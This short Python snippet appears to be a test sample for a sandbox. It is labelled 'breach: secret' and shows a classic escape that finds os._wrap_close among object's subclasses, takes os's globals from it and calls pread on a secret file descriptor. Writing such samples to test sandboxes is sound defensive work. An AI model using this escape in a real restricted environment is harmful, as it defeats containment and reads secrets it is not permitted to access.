# The class os._wrap_close among object's subclasses has os's globals.
# breach: secret
import random
[c.__init__.__globals__["pread"](SECRET_FD, 100, 0) for c in object.__subclasses__()
 if c.__name__ == "_wrap_close"]
